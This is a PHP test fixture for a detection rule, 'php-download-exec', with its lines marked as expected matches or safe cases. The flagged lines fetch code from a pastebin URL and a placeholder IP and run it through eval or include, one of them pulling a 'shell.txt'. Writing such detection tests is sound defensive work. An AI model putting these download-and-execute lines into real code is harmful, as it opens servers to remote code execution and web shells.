<?php
// Fixture for php-download-exec.
// RULEID: eval of a remote file_get_contents, eval of curl_exec output, include of an http URL.
// OK: include of a local file, file_get_contents of a URL whose JSON is decoded.
// ruleid: php-download-exec
eval(file_get_contents("https://pastebin.com/raw/AbC123"));
$ch = curl_init("http://198.51.100.20/p.txt");
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
// ruleid: php-download-exec
eval("?>" . curl_exec($ch));
// ruleid: php-download-exec
include "http://198.51.100.20/shell.txt";
// ok: php-download-exec
include __DIR__ . "/config.php";
// ok: php-download-exec
$release = json_decode(file_get_contents("https://api.example.com/latest"), true);
